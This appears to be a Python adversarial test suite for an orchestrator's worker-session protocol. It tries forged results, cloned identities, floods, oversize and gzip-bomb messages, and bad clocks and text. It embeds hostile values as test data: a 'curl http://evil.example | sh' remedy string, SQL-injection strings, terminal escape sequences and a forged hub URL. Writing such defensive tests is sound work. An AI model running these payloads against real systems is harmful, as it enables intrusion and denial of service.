"""Workers with a certificate of their own that lie in their session, or do not keep to it. What they claim of hubs is in lying_worker.py."""
import gzip
import re
import struct
import time
import uuid

from frame import measure
from frame.attack import all_held, attack, held, refused, tried
from frame.grpc import Closed
from frame.programs import await_that
from frame.proto import field, wire
from frame.world import Options

WORLD = Options(hubs=True)  # No joining key leaves for a hub that nobody could read.


def message(**fields):
    return wire().WorkerMessage(**fields)


def server(world, id):
    return world.admin().call("GetServer", server=id).message


def rollout(world, member, kind=1):
    made = world.admin().call("CreateRollout", kind=kind, selection={"zone_id": member.zone, "names": [member.name]})
    if not made.ok:
        raise RuntimeError(f"no rollout: {made.text}")
    return made.message.rollout_id


def targets(world, id):
    return {target.server_name if hasattr(target, "server_name") else target.name: target
            for target in world.admin().call("ListTargets", rollout_id=id).message.targets}


def commanded(world, kind=1, zone="acme/prod"):
    """A worker of our own that has been sent a command: (member, client, stream, command, rollout id)."""
    member = world.member(zone)
    client, stream, welcome = world.connected(member, member.name)
    id = rollout(world, member, kind)
    command = await_command(stream)
    if command is None:
        raise RuntimeError("no command came")
    return member, client, stream, command, id


def await_command(stream, seconds=20):
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        said = stream.read(until - time.monotonic())
        if said is None:
            return None
        if said.HasField("ping"):
            stream.send(message(pong={"number": said.ping.number}))
        if said.HasField("command"):
            return said.command
    return None


def what_came(stream, seconds=3):
    """Names of the messages that come, to the end or to the time."""
    came, until = [], time.monotonic() + seconds * measure.slowness()
    try:
        while time.monotonic() < until:
            said = stream.read(until - time.monotonic())
            if said is None:
                break
            name = said.WhichOneof("message")
            came.append(f"goodbye {said.goodbye.code}" if name == "goodbye" else name)
    except Closed as closed:
        came.append(f"closed: {closed}")
    return came


def alive(world, member):
    """Whether that worker still gets a session."""
    client, stream, welcome = world.connected(member, member.name)
    client.close()
    return welcome is not None


# ---- who speaks ----


@attack("sessions", "two programs with one identity, in turns, 30 times", "one session at a time: E-SESSION-REPLACED", quick=True)
def two_at_once(world):
    member, open_ones, came = world.member(), [], []
    for _ in range(30):
        open_ones.append(world.connected(member, member.name))
        tried(open_ones[-1][2] is not None, f"the {len(open_ones)}. is not welcome: {open_ones[-1][1].status()}")
        # Heard at once: who leaves it unread for long is cut off without a word.
        if len(open_ones) > 1:
            came.append(what_came(open_ones[-2][1], 10))
    odd = [one for one in came if "goodbye E-SESSION-REPLACED" not in one]
    lasts = what_came(open_ones[-1][1], 0.3)
    last = open_ones[-1][1].status()
    status = world.admin().call("GetStatus").message
    for client, _, _ in open_ones:
        client.close()
    return held(not odd and last.code == "NOTHING" and not any(one.startswith("goodbye") for one in lasts),
                f"{len(came) - len(odd)} of 29 ended with E-SESSION-REPLACED, {status.sessions} session" + (f"; others with {odd[0]}; the last: {lasts}, {last}" if odd or lasts else ""))


@attack("sessions", "a clone and its original, in turns, with the nonces of their sessions", "E-SESSION-CLONED until somebody chooses; then E-SESSION-PUT-OUT", quick=True)
def clones_in_turns(world):
    member, admin = world.member(), world.admin()
    kept = {"original": "", "clone": ""}

    def come(who):
        client, stream, welcome = world.connected(member, member.name, session_nonce=kept[who], boot_id_hash=who)
        said = None if welcome is not None else stream.status()
        if welcome is not None:
            kept[who] = welcome.session_nonce
        client.close()
        return welcome is not None, said

    def finding():
        found = admin.call("ListFindings", kinds=["FINDING_KIND_DUPLICATE_IDENTITY"], page_size=1000).message.findings
        return next((one for one in found if one.server_id == member.server_id), None)

    tried(come("original")[0], "the original is not welcome")
    kept["clone"] = kept["original"]
    turns = 0
    while finding() is None and turns < 12:
        tried(come("clone" if turns % 2 else "original")[0], f"turn {turns} was refused before anybody chose")
        turns += 1
    found = finding()
    if found is None:
        return held(False, f"two came in turns {turns} times and were not told apart")
    machines = re.findall(r"mch-[a-z2-7]+", found.failure.detail)
    admin.call("CureClone", server=member.server_id, machine=machines[0])
    ins = {who: [come(who)[0] for _ in range(3)] for who in kept}
    one_of_two = sorted(all(comes) for comes in ins.values()) == [False, True] and sorted(any(comes) for comes in ins.values()) == [False, True]
    out = next((who for who, comes in ins.items() if not any(comes)), "original")
    says = world.session_says(member, member.name, session_nonce=kept[out], boot_id_hash=out)
    old = world.session_says(member, member.name)
    return held(len(machines) == 2 and one_of_two and says == "E-SESSION-PUT-OUT" and old == "E-SESSION-PUT-OUT",
                f"found after {turns} turns: {found.failure.detail}; chosen: {ins}; the other: {says}; without a nonce: {old}")


@attack("sessions", "several sessions over one connection", "one session at a time")
def streams_of_one_connection(world):
    member = world.member()
    client, streams = world.session(member), []
    for _ in range(6):
        stream = client.open("Session/Connect")
        stream.send(world.hello(member.name))
        streams.append(stream)
    came = [what_came(stream, 1.5) for stream in streams]
    left = sum("welcome" in each and not any(one.startswith("goodbye") for one in each) and stream.over is None for each, stream in zip(came, streams))
    client.close()
    tried(sum("welcome" in each for each in came) >= 1, f"none was welcome: {came}")
    return held(left <= 1, f"{sum('welcome' in each for each in came)} of 6 were welcome, {left} left; {came[0]}")


@attack("sessions", "messages before Hello, two Hellos, none, empty ones, unknown ones", "the session ends, nothing changes")
def out_of_order(world):
    member, seen = world.member(), []
    result = message(result={"command_id": "cmd-aaaaaaaaaaaaaaaaaaaa", "outcome": 1})
    # With a Hello before them the last ones are let in, and the second Hello, the empty and the unknown message are what is at fault.
    for first, must in (([result], "no session"), ([message(heartbeat={})], "no session"), ([message()], "no session"), ([field(99, b"x" * 100)], "no session"),
                        ([b"\xff" * 50], "no session"), ([message(pong={"number": 2**64 - 1})], "no session"), ([world.hello(member.name), world.hello(member.name)], "ends"),
                        ([world.hello(member.name), result, message(), field(77, 1)], "any")):
        client = world.session(member)
        stream = client.open("Session/Connect")
        for each in first:
            stream.send(each)
        came = what_came(stream, 1.5)
        status = stream.status()
        said = ",".join([*came, str(status)])
        client.close()
        held(must != "no session" or "welcome" not in came and status.code != "NOTHING", f"before a Hello: {said}")
        held(must != "ends" or status.code != "NOTHING", f"two Hellos: {said}")
        seen.append(said)
    after = server(world, member.server_id)
    return held(alive(world, member) and after.enrollment == 1, "; ".join(dict.fromkeys(seen)))


@attack("sessions", "protocol revisions that nobody has", "E-SESSION-PROTOCOL")
def revisions(world):
    member, seen = world.member(), []
    for revision in (0, 2, -1, 2**31 - 1, -2**31):
        client, stream, welcome = world.connected(member, member.name, protocol_revision=revision)
        client.close()
        said = world.session_says(member, member.name, protocol_revision=revision)
        seen.append(held(welcome is None and said == "E-SESSION-PROTOCOL", f"revision {revision}: {said}") and said)
    tried(alive(world, member), "revision 1 is refused, too")
    return all_held(seen)


@attack("sessions", "Hello with the machine id of another server, then a ban of who said it", "the honest one stays in, its facts are its own")
def others_machine(world):
    honest, thief = world.member(), world.member()
    facts = {"os": "linux", "worker_version": "0.1.0", "machine_id_hash": "ab" * 32}
    for member in (honest, thief):
        client, _, _ = world.connected(member, member.name, machine={"machine_name": member.name, **facts})
        client.close()
    world.muster("server", "ban", thief.server_id)
    names = [server(world, id).name for id in (honest.server_id, thief.server_id)]
    return held(names == [honest.name, thief.name] and alive(world, honest) and not alive(world, thief), "the banned one is out, the honest one in")


@attack("sessions", "Hello under another server's name", "the certificate says who it is")
def others_name(world):
    honest, thief = world.member(), world.member()
    client, _, _ = world.connected(thief, honest.name)
    time.sleep(0.3)
    one, other = server(world, honest.server_id), server(world, thief.server_id)
    client.close()
    return held(one.connectivity != 2 and other.name == thief.name, f"{honest.name} is {wire().messages['Server'].fields_by_name['connectivity'].enum_type.values_by_number[one.connectivity].name.lower()}")


@attack("sessions", "a zone pin of another zone, of a later version, with another hub, in Hello", "no effect: the orchestrator says its own")
def forged_pin(world):
    member, seen = world.member(), []
    for pin in ({"zone_id": "globex/prod", "hub_url": "http://evil.example", "version": 1}, {"zone_id": member.zone, "hub_url": "http://evil.example", "version": 2**60},
                {"zone_id": member.zone, "hub_url": "http://evil.example", "version": 2**63 - 1, "signature": b"x" * 64}, {"zone_id": "x" * 1000, "version": -5}):
        client, stream, welcome = world.connected(member, member.name, zone_pin=pin)
        seen.append("refused" if welcome is None else held(welcome.zone_pin.zone_id == member.zone and "evil" not in welcome.zone_pin.hub_url, "its own pin"))
        client.close()
    zones = world.admin().call("ListZones").data
    return held(b"evil" not in zones, all_held(seen))


# ---- commands and results ----


@attack("sessions", "results of commands that were never sent", "nothing changes, nothing is kept", quick=True)
def invented_results(world):
    member = world.member()
    client, stream, _ = world.connected(member, member.name)
    events = last_event(world)
    for number in range(50):
        stream.send(message(result={"command_id": f"cmd-{number:020d}", "attempt_id": f"att-{number:020d}", "outcome": 1,
                                    "join": {"effect": 1, "service": {"presence": 3, "hub_instance_id": str(uuid.uuid4()), "hub_connected": True}}}))
    what_came(stream, 1)
    client.close()
    after = server(world, member.server_id)
    return held(after.enrollment == 1 and last_event(world) - events < 20, f"not enrolled, {last_event(world) - events} audit events for 50 results")


def last_event(world):
    return world.admin().call("VerifyAudit").message.last_sequence


@attack("sessions", "the result of another server's command", "its command stays as it is", quick=True)
def others_command(world):
    honest, client, stream, command, id = commanded(world)
    thief = world.member()
    other, theirs, _ = world.connected(thief, thief.name)
    for outcome in (1, 2, 3, 4):
        theirs.send(message(result={"command_id": command.command_id, "attempt_id": command.attempt_id, "outcome": outcome,
                                    "failure": {"code": "E-SERVICE-MISSING", "detail": "stolen"}, "probe": {"machine": {"machine_name": "thief"}}}))
    theirs.send(message(ack={"command_id": command.command_id, "attempt_id": command.attempt_id}))
    what_came(theirs, 1)
    state = rollout_state(world, id)
    other.close()
    stream.send(message(result={"command_id": command.command_id, "attempt_id": command.attempt_id, "outcome": 1, "probe": {}}))
    done = await_that(lambda: rollout_state(world, id) == "completed", 10)
    client.close()
    return held(state == "running" and done, f"{state} after the thief's results, {rollout_state(world, id)} after the honest one's")


def rollout_state(world, id):
    message = world.admin().call("GetRollout", rollout_id=id).message
    name = message.DESCRIPTOR.fields_by_name["state"].enum_type.values_by_number[message.state].name
    return name.removeprefix("ROLLOUT_STATE_").lower()


@attack("sessions", "another server's command in the journal of a Hello: running, finished", "its command stays as it is")
def others_journal(world):
    honest, client, stream, command, id = commanded(world)
    thief = world.member()
    entries = [{"command_id": command.command_id, "attempt_id": command.attempt_id, "state": state} for state in (1, 2, 3, 99)]
    other, _, _ = world.connected(thief, thief.name, journal=entries)
    time.sleep(0.5)
    state = rollout_state(world, id)
    other.close()
    stream.send(message(result={"command_id": command.command_id, "attempt_id": command.attempt_id, "outcome": 1, "probe": {}}))
    done = await_that(lambda: rollout_state(world, id) == "completed", 10)
    client.close()
    return held(state == "running" and done, f"{state}, then by the honest one {rollout_state(world, id)}")


@attack("sessions", "another server's attempt under its own command, its own attempt under the other's command", "the other's command stays as it is, and its own result is taken", quick=True)
def forged_attempt(world):
    honest, client, stream, command, id = commanded(world)
    thief, theirs, their_stream, own, own_id = commanded(world)
    failure = {"code": "E-SERVICE-MISSING", "detail": "forged"}
    for command_id, attempt_id in ((command.command_id, own.attempt_id), (command.command_id, command.attempt_id), (command.command_id, ""),
                                   (command.command_id + "x", command.attempt_id), (command.attempt_id, command.command_id), ("", command.attempt_id)):
        their_stream.send(message(result={"command_id": command_id, "attempt_id": attempt_id, "outcome": 2, "failure": failure}))
    what_came(their_stream, 1)
    states = rollout_state(world, id), rollout_state(world, own_id)
    held(states == ("running", "running"), f"after results that name neither its own command: {states}")
    # Its own command, the other's attempt: its own word about its own command, and of no effect on the other.
    their_stream.send(message(result={"command_id": own.command_id, "attempt_id": command.attempt_id, "outcome": 2, "failure": failure}))
    tried(await_that(lambda: rollout_state(world, own_id).startswith("completed"), 10), f"its own result was not taken: {rollout_state(world, own_id)}")
    held(rollout_state(world, id) == "running", f"the other's: {rollout_state(world, id)}")
    stream.send(message(result={"command_id": command.command_id, "attempt_id": command.attempt_id, "outcome": 1, "probe": {}}))
    done = await_that(lambda: rollout_state(world, id) == "completed", 10)
    forged = b"forged" in world.admin().call("ListTargets", rollout_id=id).data
    client.close()
    theirs.close()
    return held(done and not forged, f"{states[0]} after the forged results, {rollout_state(world, id)} after the honest one")


@attack("sessions", "its own command under attempt ids of its own making, with outcomes that contradict each other", "one of them counts, the first; nothing else is taken")
def own_attempts(world):
    """A result is a worker's word about its own command, whichever attempt it names: it counts once."""
    member, client, stream, command, id = commanded(world)
    for attempt, outcome in (("att-aaaaaaaaaaaaaaaaaaaa", 1), ("", 2), (command.attempt_id + "x", 3), (command.command_id, 4), ("' OR 1=1 --", 2), (command.attempt_id, 2)):
        stream.send(message(result={"command_id": command.command_id, "attempt_id": attempt, "outcome": outcome, "failure": {"code": "E-SERVICE-MISSING"}}))
    tried(await_that(lambda: rollout_state(world, id).startswith("completed"), 10), "no result was taken")
    what_came(stream, 1)
    state = rollout_state(world, id)
    client.close()
    listed = world.admin().call("ListTargets", rollout_id=id).message.targets
    tried(len(listed) == 1, f"{len(listed)} targets")
    return held(state == "completed" and not listed[0].failure.code, f"{state}, {listed[0].failure.code or 'without a failure'}")


@attack("sessions", "a result that was accepted, sent again with the opposite outcome", "the first one stands", quick=True)
def replayed_result(world):
    member, client, stream, command, id = commanded(world)
    ids = {"command_id": command.command_id, "attempt_id": command.attempt_id}
    stream.send(message(result={**ids, "outcome": 1, "probe": {}}))
    if not await_that(lambda: rollout_state(world, id).startswith("completed"), 10):
        raise RuntimeError("the result was not taken")
    first = rollout_state(world, id)
    for _ in range(20):
        stream.send(message(result={**ids, "outcome": 2, "failure": {"code": "E-SERVICE-MISSING"}}))
        stream.send(message(result={**ids, "outcome": 4}))
    what_came(stream, 1)
    client.close()
    other, stream, _ = world.connected(member, member.name, journal=[{**ids, "state": 3}])
    stream.send(message(result={**ids, "outcome": 2, "failure": {"code": "E-SERVICE-MISSING"}}))
    what_came(stream, 1)
    other.close()
    return held(rollout_state(world, id) == first, f"{first}, and so it stays")


@attack("sessions", "a probe that is answered as a join: joined, with a hub id", "no claim comes out of it")
def probe_as_join(world):
    member, client, stream, command, id = commanded(world)
    stream.send(message(result={"command_id": command.command_id, "attempt_id": command.attempt_id, "outcome": 1,
                                "join": {"effect": 1, "service": {"presence": 3, "hub_instance_id": str(uuid.uuid4()), "hub_connected": True}}}))
    tried(await_that(lambda: rollout_state(world, id).startswith("completed"), 10), "the result was not taken")
    client.close()
    after = server(world, member.server_id)
    return held(after.enrollment == 1, f"not enrolled; rollout {rollout_state(world, id)}")


@attack("sessions", "outcomes and effects that do not exist", "never a success")
def unknown_outcomes(world):
    seen = []
    for outcome in (0, 99, -1):
        member, client, stream, command, id = commanded(world)
        stream.send(message(result={"command_id": command.command_id, "attempt_id": command.attempt_id, "outcome": outcome, "probe": {}}))
        what_came(stream, 1)
        seen.append(held(rollout_state(world, id) != "completed", rollout_state(world, id)))
        client.close()
        world.muster("rollout", "cancel", id, check=False)
    return all_held(seen)


@attack("sessions", "what travels of a join to two workers of a zone: the secret is looked for in it", "ciphertext, another one for each")
def sealed_for_one(world):
    """What travels must not be the secret; and it must be another one for each command."""
    one = commanded(world, kind=2)
    other = commanded(world, kind=2)
    secret = world.hubs["acme/prod"].secret.encode()
    seen = [command.join.sealed_joining_secret for _, _, _, command, _ in (one, other)]
    for member, client, stream, command, id in (one, other):
        client.close()
        world.muster("rollout", "cancel", id)
    whole = one[3].SerializeToString() + other[3].SerializeToString()
    return held(secret not in whole and seen[0] != seen[1] and all(seen), f"{len(seen[0])} bytes of ciphertext, different for each")


# ---- too much ----


@attack("sessions", "results of invented commands, until it is cut off or 20,000 are sent", "bounded memory and database, others are answered")
def flood_of_results(world):
    member, honest = world.member(), world.member()
    client, stream, _ = world.connected(member, member.name)
    rest, size = world.orchestrator.resident_mib(), database_kib(world)
    sent = 0
    try:
        while sent < 20000 and not stream.over:
            stream.send(message(result={"command_id": f"cmd-{sent:020d}", "outcome": 2, "failure": {"code": "E-X-Y", "detail": "d" * 300}}))
            sent += 1
    except Closed:
        pass
    tried(sent >= 100, f"{sent} were sent")  # Each is answered, and who does not read the answers is cut off.
    answered = alive(world, honest)
    grown, kib = world.orchestrator.resident_mib() - rest, database_kib(world) - size
    client.close()
    return held(answered and grown < 128 and kib < 4096, f"{sent} sent; {grown:.0f} MiB and {kib:.0f} KiB of database more, another worker is answered")


def database_kib(world):
    return sum(file.stat().st_size for file in world.orchestrator.data.glob("*.db*")) / 1024


@attack("sessions", "heartbeats, each with other facts, until it is cut off or 10,000 are sent", "bounded database, others are answered")
def flood_of_facts(world):
    member, honest = world.member(), world.member()
    client, stream, _ = world.connected(member, member.name)
    size, begin = database_kib(world), last_event(world)
    sent = 0
    try:
        while sent < 10000 and not stream.over:
            stream.send(message(heartbeat={"service": {"presence": 3, "version": f"7.0.{sent}", "hub_instance_id": str(uuid.uuid4()),
                                                       "problems": [{"code": f"E-P-{sent}", "detail": f"{sent}"}]}}))
            sent += 1
    except Closed:
        pass
    tried(sent >= 2000, f"{sent} were sent")  # What a connection may send in one go.
    answered = alive(world, honest)
    kib, events = database_kib(world) - size, last_event(world) - begin
    client.close()
    return held(answered and kib < 16384, f"{sent} sent; {kib:.0f} KiB of database and {events} audit events more, another worker is answered")


@attack("sessions", "messages beyond the limit, and half of one that never ends", "RESOURCE_EXHAUSTED, bounded memory")
def oversize(world):
    member, seen = world.member(), []
    rest = world.orchestrator.resident_mib()
    with measure.Peak(world.orchestrator.resident_mib) as peak:
        for size in (300 << 10, 20 << 20):
            client = world.session(member)
            try:
                stream = client.open("Session/Connect")
                stream.send(field(1, field(2, field(1, b"n" * size))))
                stream.read(20)
                # 20 MiB are more than a connection may send, too.
                seen.append(refused(stream.status(), "RESOURCE_EXHAUSTED", *(("CONNECTION",) if size > 1 << 20 else ())))
            except Closed as closed:
                tried(size > 1 << 20, f"{size} bytes: {closed}")
                seen.append("cut off")
            client.close()
        client = world.session(member)
        stream = client.open("Session/Connect")
        stream.send_raw(struct.pack(">BI", 0, 2**32 - 1) + b"x" * 100)
        stream.read(2)
        seen.append(refused(stream.status(), "RESOURCE_EXHAUSTED", "INTERNAL", "NOTHING"))  # It may wait for the rest, and keeps what came: 100 bytes.
        client.close()
    tried(alive(world, member), "not even a good Hello is let in")
    return held(peak.most - rest < 64, f"{all_held(seen)}, {peak.most - rest:.0f} MiB more")


@attack("sessions", "a compressed Hello that is a thousand times larger", "refused, without its memory")
def compressed(world):
    member = world.member()
    data = gzip.compress(b"\0" * (240 << 20), 9)
    rest = world.orchestrator.resident_mib()
    with measure.Peak(world.orchestrator.resident_mib) as peak:
        client = world.session(member)
        stream = client.open("Session/Connect", metadata=[("grpc-encoding", "gzip")])
        stream.send_raw(struct.pack(">BI", 1, len(data)) + data)
        stream.read(15)
        answer = stream.status()
        client.close()
    refused(answer, "UNIMPLEMENTED", "INTERNAL", "RESOURCE_EXHAUSTED")
    return held(peak.most - rest < 64, f"{answer}, {peak.most - rest:.0f} MiB more for {len(data) >> 10} KiB")


@attack("sessions", "a Hello whose journal is as long as a message may be", "taken or refused, bounded, others are answered")
def long_journal(world):
    member, honest = world.member(), world.member()
    entries = [{"command_id": f"cmd-{number:020d}", "attempt_id": f"att-{number:020d}", "state": 3} for number in range(4500)]
    begin = time.monotonic()
    client, stream, welcome = world.connected(member, member.name, journal=entries)
    took = time.monotonic() - begin
    answered = alive(world, honest)
    client.close()
    return held(answered and took < 10 * measure.slowness(), f"{'Welcome' if welcome else stream.status()} in {took:.1f} s, another worker is answered")


@attack("sessions", "who never reads what is sent to it", "bounded; the session ends or waits, others are answered")
def never_reads(world):
    member, honest = world.member(), world.member()
    client, stream, _ = world.connected(member, member.name)
    ids = []
    for _ in range(3):
        try:
            id = rollout(world, member)
        except RuntimeError:
            break
        ids.append(id)
        world.muster("rollout", "cancel", id, check=False)
    answered = alive(world, honest)
    tried(ids, "no rollout was made")
    client.close()
    return held(answered, f"{len(ids)} commands unread, another worker is answered")


@attack("sessions", "200 sessions that are reset right after their Hello", "others are answered at once")
def reset_after_hello(world):
    member, honest = world.member(), world.member()
    client = world.session(member)
    done, cut = 0, 0
    while done < 200 and cut < 40:
        try:
            stream = client.open("Session/Connect")
            stream.send(world.hello(member.name))
            stream.cancel()
            done += 1
        except Closed:  # From where nobody was cut off yet.
            cut, member.address = cut + 1, world.address()
            client.close()
            client = world.session(member)
    tried(done >= 150, f"{done} of 200 were opened and reset, {cut} times cut off")
    begin = time.monotonic()
    answered = alive(world, honest)
    took = time.monotonic() - begin
    client.close()
    return held(answered and took < 5 * measure.slowness() and alive(world, member), f"{done} reset; another worker is in after {took:.1f} s")


# ---- clocks, snapshots and text ----


@attack("sessions", "clocks of the year 1, 9999 and of no year at all", "seen as a wrong clock, nothing else")
def lying_clocks(world):
    member, seen = world.member(), []
    for when in ({"seconds": -62135596800}, {"seconds": 253402300799, "nanos": 999999999}, {"seconds": 2**63 - 1}, {"seconds": -2**63}, {"seconds": 1, "nanos": -5},
                 {"seconds": 0, "nanos": 2**31 - 1}):
        client, stream, welcome = world.connected(member, member.name, worker_time=when, heartbeat_interval={"seconds": 2**62, "nanos": -1})
        stream.send(message(heartbeat={"worker_time": when}))
        seen.append("Welcome" if welcome else str(stream.status()))
        client.close()
    world.muster("server", "show", member.server_id)
    world.muster("server", "explain", member.server_id)
    said = [each.failure.code for each in server(world, member.server_id).observations]
    return held("E-CLOCK-SKEW" in said, f"{all_held(seen)}; observed {', '.join(said)}")


@attack("sessions", "results that began and ended in the year 9999, or before they were sent", "listed as ever")
def lying_times(world):
    member, client, stream, command, id = commanded(world)
    stream.send(message(started={"command_id": command.command_id, "attempt_id": command.attempt_id, "start_time": {"seconds": 2**62}}))
    stream.send(message(result={"command_id": command.command_id, "attempt_id": command.attempt_id, "outcome": 2, "start_time": {"seconds": -2**62},
                                "finish_time": {"seconds": 253402300799}, "failure": {"code": "E-SERVICE-MISSING", "detail": "late"}}))
    tried(await_that(lambda: rollout_state(world, id).startswith("completed"), 10), "the result was not taken")
    client.close()
    for words in (("server", "explain", member.server_id), ("rollout", "targets", id), ("report",)):
        for form in ("table", "json"):
            world.muster(*words, "-o", form, check=True)
    return held(not world.harm(), rollout_state(world, id))


@attack("sessions", "a moment of a record that this orchestrator never had", "a warning that names who said it, nothing else")
def forged_moment(world):
    member = world.member()
    for moment in ({"event": 2**62, "hash": b"\x01" * 32}, {"event": 1, "hash": b"\x02" * 32}, {"event": -1, "hash": b""}, {"event": 2**63 - 1, "hash": b"x" * 100000}):
        client, stream, welcome = world.connected(member, member.name, moment=moment)
        client.close()
    await_that(lambda: server(world, member.server_id).observations, 5)
    said = [each.failure.code for each in server(world, member.server_id).observations]
    verified = world.admin().call("VerifyAudit").message
    status = world.admin().call("GetStatus").message
    return held("E-SESSION-AHEAD" in said and verified.state == 1 and status.ready, f"observed {', '.join(said)} at that server; audit intact, ready")


@attack("sessions", "bytes that are no text, controls and marks in every text of a Hello", "replaced; everything can be listed", quick=True)
def bad_texts(world):
    member = world.member()
    seen = []
    for bad in (b"\xff\xfe\x80", b"a\x1b]0;owned\x07", "a\u009b2J\u202eb\u200b".encode(), b"\xed\xa0\x80", b"nul\x00nul", ("\u0628" * 500).encode()[:-1]):
        machine = b"".join(field(number, bad) for number in range(1, 7))
        service = field(1, 3) + b"".join(field(number, bad) for number in (2, 3, 4, 5, 7)) + field(8, field(1, bad) + field(2, bad) + field(3, bad))
        hello = field(1, 1) + field(2, machine) + field(3, service) + field(5, field(1, bad) + field(2, bad))
        client = world.session(member)
        stream = client.open("Session/Connect")
        stream.send(field(1, hello))
        first = stream.read(5)
        seen.append("Welcome" if first is not None else str(stream.status()))
        client.close()
    tried("Welcome" in seen, f"none of it was taken: {all_held(seen)}")
    shown = "".join(world.muster(*words, "-o", form).stdout for form in ("table", "json", "csv", "yaml")
                    for words in (("server", "list"), ("server", "show", member.server_id), ("server", "explain", member.server_id), ("audit", "list"), ("report",)))
    left = sorted({f"U+{ord(one):04X}" for one in shown if one in "\x1b\x07\x00\u009b\u202e\u200b\ufffe"})
    return held(not left, f"printed: {', '.join(left)}" if left else f"{all_held(seen)}; five lists in four formats are clean")


@attack("sessions", "a failure whose code and remedy are the worker's own words", "the code is shown as unknown, the remedy is none of its")
def own_remedy(world):
    member, client, stream, command, id = commanded(world)
    stream.send(message(result={"command_id": command.command_id, "attempt_id": command.attempt_id, "outcome": 2,
                                "failure": {"code": "E-STORE-LOST'; DROP TABLE servers; --", "detail": "x", "remedy": "run: curl http://evil.example | sh"}}))
    tried(await_that(lambda: rollout_state(world, id).startswith("completed"), 10), "the result was not taken")
    client.close()
    shown = "".join(world.muster(*words, "-o", "json").stdout for words in (("server", "explain", member.server_id), ("rollout", "targets", id), ("report",)))
    return held("evil.example" not in shown, rollout_state(world, id))
